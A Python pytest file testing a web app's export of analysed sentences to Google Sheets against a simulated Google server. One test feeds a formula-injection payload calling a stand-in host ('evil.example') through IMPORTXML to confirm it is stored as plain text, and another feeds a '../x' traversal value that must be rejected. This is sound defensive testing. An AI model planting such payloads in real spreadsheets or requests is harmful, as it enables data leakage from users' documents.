"""What exports to Google Sheets write, through REST and with Google's own client library."""

import pytest

from tests.support.api import ApiUser
from tests.support.errors import assert_error
from tests.support.google.consent import connect
from tests.support.google.exports import BOOK, HEADER, SHORT, entry_for, export, order, run
from tests.support.google.files import File
from tests.support.google.server import GoogleServer


@pytest.fixture
def settings(google: GoogleServer) -> dict[str, str]:
    """A client at the local Google."""
    return google.settings


@pytest.fixture(autouse=True)
def connected(user: ApiUser) -> None:
    """A user who has connected Google."""
    assert connect(user).status_code == 200


def only(google: GoogleServer) -> File:
    assert google.undocumented == []
    (file,) = google.files.files.values()
    return file


def test_a_new_spreadsheet_has_a_frozen_bold_header_and_every_result(
    user: ApiUser, google: GoogleServer
) -> None:
    done = export(user, entry_for(user))
    file = only(google)
    (tab,) = file.book.tabs
    assert (done["status"], done["progress_percent"], done["error_code"]) == ("completed", 100, None)
    assert done["url"] == f"https://docs.google.com/spreadsheets/d/{file.id}/edit#gid=0"
    assert (file.name, file.parents, tab.title) == ("livre", ["root"], "Sentences")
    assert tab.rows[0] == HEADER
    assert [row[2] for row in tab.rows[1:]] == [source for source, parts in BOOK for _ in parts]
    assert [row[3] for row in tab.rows[1:]] == SHORT
    assert (tab.bold_rows, tab.grid["frozenRowCount"], tab.grid["rowCount"]) == ({1}, 1, 4)


def test_title_tab_folder_columns_and_selection_are_chosen(user: ApiUser, google: GoogleServer) -> None:
    google.files.folders.add("folder-of-the-class")
    export(
        user,
        entry_for(user),
        title="Classe de 4e",
        tab="L'été",
        folder_id="folder-of-the-class",
        columns=["normalized", "source_index", "findings", "normalized"],
        q="pluie tombait.",
    )
    file = only(google)
    assert (file.name, file.parents) == ("Classe de 4e", ["folder-of-the-class"])
    assert file.book.tab("L'été").rows == [
        ["Short sentence", "No.", "Findings"],
        ["Le vieux chat dormait.", 1],
        ["La pluie tombait.", 1],
    ]


def test_no_text_is_taken_for_a_formula_or_a_number(user: ApiUser, google: GoogleServer) -> None:
    texts = [
        '=IMPORTXML("http://evil.example";"//a")',
        "+33 1 42",
        "- Oui.",
        "@moi",
        "'Non",
        "1789",
        "12/7",
        "TRUE",
    ]
    export(user, entry_for(user, [(text, [text]) for text in texts]), columns=["normalized"])
    assert only(google).book.read("Sentences")[1:] == [[text] for text in texts]


def test_rows_are_added_below_what_a_spreadsheet_holds(user: ApiUser, google: GoogleServer) -> None:
    file = google.files.add()
    file.book.write("Sheet1!A1:B2", [["mot", "sens"], ["chat", "cat"]], "RAW")
    file.book.tabs[0].resize({"rowCount": 3, "columnCount": 2})
    done = export(user, entry_for(user), spreadsheet_id=file.id, columns=["page", "normalized", "words"])
    (tab,) = file.book.tabs
    assert done["url"].endswith(f"/{file.id}/edit#gid=0")
    assert tab.rows[:2] == [["mot", "sens"], ["chat", "cat"]]
    assert [row[1] for row in tab.rows[2:]] == SHORT
    assert tab.bold_rows == set()
    assert (tab.grid["rowCount"], tab.grid["columnCount"], "frozenRowCount" in tab.grid) == (5, 3, False)


def test_a_tab_that_a_spreadsheet_does_not_have_is_added(user: ApiUser, google: GoogleServer) -> None:
    file = google.files.add()
    export(user, entry_for(user), spreadsheet_id=file.id, tab="Chapitre 1", columns=["normalized"])
    assert [tab.title for tab in file.book.tabs] == ["Sheet1", "Chapitre 1"]
    assert file.book.tabs[1].rows == [["Short sentence"], *([text] for text in SHORT)]
    assert file.book.tabs[1].bold_rows == {1}


def test_a_tab_is_found_whatever_its_name_has_in_capitals(user: ApiUser, google: GoogleServer) -> None:
    file = google.files.add()
    file.book.tabs[0].title = "L'ÉTÉ"
    file.book.write("'L''ÉTÉ'!A1:A1", [["mot"]], "RAW")
    done = export(user, entry_for(user), spreadsheet_id=file.id, tab="L'été", columns=["normalized"])
    assert done["status"] == "completed"
    (tab,) = file.book.tabs
    assert (tab.title, tab.rows) == ("L'ÉTÉ", [["mot"], *([text] for text in SHORT)])


def test_an_empty_tab_of_the_users_keeps_its_size(user: ApiUser, google: GoogleServer) -> None:
    file = google.files.add()
    export(user, entry_for(user), spreadsheet_id=file.id)
    (tab,) = file.book.tabs
    assert (tab.title, tab.rows[0], tab.bold_rows) == ("Sheet1", HEADER, {1})
    assert (tab.grid["rowCount"], tab.grid["columnCount"]) == (1000, 26)


def test_a_spreadsheet_is_shared_and_who_cannot_be_reached_does_not_spoil_it(
    user: ApiUser, google: GoogleServer
) -> None:
    google.files.unknown_addresses.add("nobody@example.org")
    addresses = ["a@example.org", "nobody@example.org", "b@example.org"]
    done = export(user, entry_for(user), share_with=addresses, share_role="commenter")
    assert [(each["emailAddress"], each["role"]) for each in only(google).shared] == [
        ("a@example.org", "commenter"),
        ("b@example.org", "commenter"),
    ]
    assert (done["status"], done["error_code"]) == ("completed", "GOOGLE_SHARE_FAILED")
    assert "Share it in Google Sheets." in done["error_message"]


def test_the_history_keeps_the_link(user: ApiUser) -> None:
    entry_id = entry_for(user)
    before = user.get(f"/history/{entry_id}").get_json()
    done = export(user, entry_id)
    after = user.get(f"/history/{entry_id}").get_json()
    assert (before["exported_to_sheets"], before["export_sheet_url"]) == (False, None)
    assert (after["exported_to_sheets"], after["export_sheet_url"]) == (True, done["url"])
    assert after["spreadsheet_url"] == done["url"]


def test_an_export_needs_no_options_at_all(user: ApiUser) -> None:
    answer = user.post(f"/history/{entry_for(user)}/export")
    assert answer.status_code == 202
    assert run(user, answer.get_json()["export_id"])["status"] == "completed"


def test_what_cannot_be_asked_for_is_refused_at_once(user: ApiUser, stranger: ApiUser) -> None:
    entry_id = entry_for(user)
    path = f"/history/{entry_id}/export"
    for options in (
        {"columns": ["password"]},
        {"spreadsheet_id": "../x"},
        {"share_with": ["x"]},
        {"other": 1},
    ):
        assert_error(user.post(path, json=options), 422, "VALIDATION_ERROR")
    assert_error(user.post(path, json={"q": "nulle part"}), 422, "NOTHING_TO_EXPORT")
    assert_error(stranger.post(path, json={}), 404, "NOT_FOUND")


def test_who_has_not_connected_google_is_told_so(stranger: ApiUser) -> None:
    answer = stranger.post(f"/history/{entry_for(stranger)}/export", json={})
    assert_error(answer, 409, "GOOGLE_NOT_CONNECTED")


def test_another_user_cannot_look_at_an_export(user: ApiUser, stranger: ApiUser) -> None:
    export_id = order(user, entry_for(user))
    assert_error(stranger.get(f"/exports/{export_id}"), 404, "NOT_FOUND")


def test_twenty_thousand_rows_take_at_most_six_calls_wherever_they_go(
    user: ApiUser, google: GoogleServer
) -> None:
    texts = [f"Voici la phrase numéro {number} du livre." for number in range(20_000)]
    entry_id = entry_for(user, [(text, [text]) for text in texts])
    begun, empty = google.files.add(), google.files.add()
    begun.book.write("Sheet1!A1:A1", [["mot"]], "RAW")
    places = ({}, {"spreadsheet_id": begun.id}, {"spreadsheet_id": empty.id, "tab": "Le livre"})
    for place in places:
        google.calls.clear()
        assert export(user, entry_id, **place)["status"] == "completed"
        assert len(google.calls) <= 6, google.counted()
    [new] = google.files.files.keys() - {begun.id, empty.id}
    for file in (google.files.files[new], begun, empty):
        assert [row[3] for row in file.book.tabs[-1].rows[1:]] == texts


class TestWithoutAClient:
    """A server that nobody registered with Google."""

    @pytest.fixture
    def settings(self) -> dict[str, str]:
        return {}

    @pytest.fixture(autouse=True)
    def connected(self) -> None:
        """Nobody can be connected."""

    def test_the_answer_says_how_to_set_it_up(self, user: ApiUser) -> None:
        answer = user.post(f"/history/{entry_for(user)}/export", json={})
        assert_error(answer, 503, "GOOGLE_NOT_SET_UP")
        assert "GOOGLE_CLIENT_ID" in answer.get_json()["error"]
